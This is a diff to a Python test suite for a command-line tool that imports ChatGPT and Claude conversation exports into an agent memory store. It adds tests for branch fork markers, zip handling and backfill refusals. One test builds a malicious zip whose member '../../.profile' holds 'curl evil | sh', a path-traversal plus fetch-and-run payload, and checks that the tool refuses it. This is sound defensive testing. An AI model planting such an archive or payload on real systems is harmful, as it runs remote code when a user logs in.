@@ -49,7 +49,8 @@ def test_a_chatgpt_export_loads_each_conversation_once(tmp_path: Path) -> None:
     first = amem_json(env, "lcm", "ingest", str(src), "--agent", "alice")
     assert (first["format"], first["conversations"], first["conversations_stored"]) == ("chatgpt", 2, 2)
     assert (first["messages"], first["branches"], first["branch_messages"]) == (13, 2, 3)
-    assert (first["stored"], first["skipped_duplicates"], first["invalid"]) == (16, 0, 0)
+    # stored: the messages, the branches' messages and a fork marker before each branch
+    assert (first["stored"], first["skipped_duplicates"], first["invalid"], first["fork_points"]) == (18, 0, 0, 2)
     assert first["left_out"] == {"empty": 1, "reasoning": 1}
     key = f"agent:alice:chatgpt:{LISBON_ID}"
     assert conversations(home) == {key: "Lisbon trip",
@@ -67,17 +68,23 @@ def test_a_chatgpt_export_loads_each_conversation_once(tmp_path: Path) -> None:
                                    "2024-05-01T08:03:50.250Z"]
     assert got[-1][4] == "Sintra is 40 minutes by train from Rossio."
     assert "[image: file-service://file-Tram28]" in got[1][4]
-    assert [r[0] for r in rows(home, f"{key}:branches")] == ["event:u-2a", "event:a-2a", "event:a-2b"]
+    assert [r[0] for r in rows(home, f"{key}:branches")] == ["event:fork:u-2a", "event:u-2a", "event:a-2a",
+                                                              "event:fork:a-2b", "event:a-2b"]
+    # a reader of the branches sees where each left the main line
+    branches_id = next(c["id"] for c in amem_json(env, "lcm", "browse", "conversations")["conversations"]
+                       if c["session_key"] == f"{key}:branches")
+    browsed = amem(env, "lcm", "browse", "messages", str(branches_id)).stdout
+    assert 'system' in browsed and '[branch after u-2b (user, on the main line): "What about a day trip to' in browsed
 
     again = amem_json(env, "lcm", "ingest", str(src), "--agent", "alice")
-    assert (again["stored"], again["skipped_duplicates"], again["conversations_stored"]) == (0, 16, 0)
+    assert (again["stored"], again["skipped_duplicates"], again["conversations_stored"]) == (0, 18, 0)
     # a newer export: one conversation grew a turn, and the user renamed it
     grown = chatgpt_chain("c-2", 7, title="Invoices, May")
     export(src, [chatgpt_lisbon(), grown])
     later = amem(env, "lcm", "ingest", str(src), "--agent", "alice").stdout
-    assert "stored 1 message in 1 conversation, already there 16" in later
+    assert "stored 1 message in 1 conversation, already there 18" in later
     assert conversations(home)["agent:alice:chatgpt:c-2"] == "Invoices, May"
-    assert stored_messages(env) == 17
+    assert stored_messages(env) == 19
     # the agent finds its chat by what was said in it
     hits = amem(env, "lcm", "grep", "Rossio", "--session-key", key, "--agent", "alice").stdout
     assert "1 hits" in hits
@@ -108,11 +115,12 @@ def test_a_claude_export_loads_with_its_attachments_and_tool_turns(tmp_path: Pat
     assert (again["stored"], again["skipped_duplicates"]) == (0, 5)
     # claude.ai's retried answers and edited prompts: the newest line, the rest kept apart
     edited = amem_json(env, "lcm", "ingest", str(export(src, [claude_invoice(), claude_edited()])))
-    assert (edited["stored"], edited["branches"], edited["branch_messages"]) == (6, 2, 2)
+    assert (edited["stored"], edited["branches"], edited["branch_messages"]) == (8, 2, 2)
     assert [r[4] for r in rows(home, "agent:bob:claude:7e1c-edited")] == [
         "When is the deploy window?", "Tuesdays and Thursdays, 14:00 UTC.", "And the December freeze?",
         "From 18 December to 2 January."]
-    assert [r[0] for r in rows(home, "agent:bob:claude:7e1c-edited:branches")] == ["event:r-1", "event:q-2"]
+    assert [r[0] for r in rows(home, "agent:bob:claude:7e1c-edited:branches")] == [
+        "event:fork:r-1", "event:r-1", "event:fork:q-2", "event:q-2"]
 
 
 def test_bad_conversations_refuse_the_file_unless_skipped(tmp_path: Path) -> None:
@@ -226,7 +234,7 @@ def test_the_zip_the_app_sends_loads_as_it_is(tmp_path: Path) -> None:
         z.writestr("file-Tram28-tram.jpg", b"\xff\xd8\xff\xe0 not really a photo")
         z.writestr("conversations.json", json.dumps([chatgpt_lisbon()], indent=2))
     done = amem_json(env, "lcm", "ingest", str(bundle), "--agent", "alice")
-    assert (done["format"], done["stored"]) == ("chatgpt", 10)
+    assert (done["format"], done["stored"]) == ("chatgpt", 12)
     assert amem_json(env, "lcm", "ingest", str(bundle), "--agent", "alice")["stored"] == 0
     # a bad conversation inside is named by the zip and the file in it
     broken = chatgpt_lisbon()
@@ -235,6 +243,13 @@ def test_the_zip_the_app_sends_loads_as_it_is(tmp_path: Path) -> None:
         z.writestr("conversations.json", json.dumps([broken], indent=2))
     err = amem(env, "lcm", "ingest", str(bundle), code=2).stderr
     assert f"{bundle}:conversations.json:2: conversation 1 ('Lisbon trip'" in err
+    # a zip made to be unpacked outside its folder is no export: refused, named, nothing stored
+    with zipfile.ZipFile(bundle, "w") as z:
+        z.writestr("conversations.json", json.dumps([chatgpt_chain("c-new", 2)]))
+        z.writestr("../../.profile", "curl evil | sh")
+    err = amem(env, "lcm", "ingest", str(bundle), "--skip-invalid", code=2).stderr
+    assert "its member '../../.profile' points outside the archive" in err and "nothing was stored" in err
+    assert rows(home, "agent:default:chatgpt:c-new") == []
 
 
 def test_untimed_repeats_load_and_a_real_flood_is_named_while_the_rest_load(tmp_path: Path) -> None:
@@ -263,3 +278,19 @@ def test_untimed_repeats_load_and_a_real_flood_is_named_while_the_rest_load(tmp_
         "continue", "turn 1: invoice 10001 is paid", "continue"]
     again = amem(env, "lcm", "ingest", str(src), code=1)
     assert "stored 0 messages in 0 conversations, already there 10" in again.stdout
+
+
+def test_backfill_refuses_an_export_naming_the_command_that_loads_it(tmp_path: Path) -> None:
+    # backfill is one transcript under one key (backfill:<session id>) with one transplant
+    # target; an export is many conversations, each under its own key: `amem lcm ingest` loads it
+    home = tmp_path / "home"
+    env = env_for(home)
+    src = export(tmp_path / "conversations.json", [chatgpt_lisbon()])
+    bundle = tmp_path / "claude-export.zip"
+    with zipfile.ZipFile(bundle, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("conversations.json", json.dumps([claude_invoice()]))
+    for path, app in ((src, "ChatGPT"), (bundle, "Claude")):
+        err = amem(env, "lcm", "backfill", str(path), "--session-id", "old", "--apply", code=2).stderr
+        assert f"{path} is a {app} export of many conversations" in err, err
+        assert f"amem lcm ingest {path}" in err and "one transcript" in err
+    assert not (home / "lcm.db").exists() or rows(home, "backfill:old") == []
